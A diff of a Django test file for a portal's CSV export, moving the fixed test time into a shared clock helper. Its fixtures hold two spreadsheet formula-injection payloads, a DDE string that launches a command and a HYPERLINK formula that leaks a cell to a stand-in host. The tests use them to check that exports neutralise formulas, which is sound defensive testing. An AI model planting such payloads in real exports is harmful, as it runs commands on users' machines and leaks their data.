@@ -11,13 +11,13 @@ from django.urls import reverse
 from portal.csv_export import FORMULA_STARTS, restore_cell, safe_cell
 from presence.models import Representative
 from reports.rollups import rollups_refresh
+from tests.clock import T0
 from tests.factories import PresenceStatusFactory, RepresentativeFactory, builtin
 from tests.reports.history_helpers import write_history
 
 pytestmark = pytest.mark.django_db
 
-T0 = dt.datetime(2036, 3, 10, 8, 0, tzinfo=dt.UTC)
-DAY = "period=custom&date_from=2036-03-10&date_to=2036-03-10&tz=UTC"
+DAY = f"period=custom&date_from={T0.date()}&date_to={T0.date()}&tz=UTC"  # the tests' day
 EVIL_REP = "@cmd|' /C calc'!A0"
 EVIL_STATUS = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
 
@@ -48,7 +48,7 @@ def test_numbers_pass_as_numbers():
     assert safe_cell(2.5) == 2.5
 
 
-@time_machine.travel(dt.datetime(2036, 3, 12, tzinfo=dt.UTC), tick=False)
+@time_machine.travel(T0.replace(hour=0) + dt.timedelta(days=2), tick=False)
 @pytest.mark.parametrize("export", ["reps", "days", "hours", "timeline"])
 def test_historical_exports_neutralise_formulas_in_names_and_headers(client, admin_user, export):
     """Review finding 1: a rep or status named as a formula reaches the file as text, in every
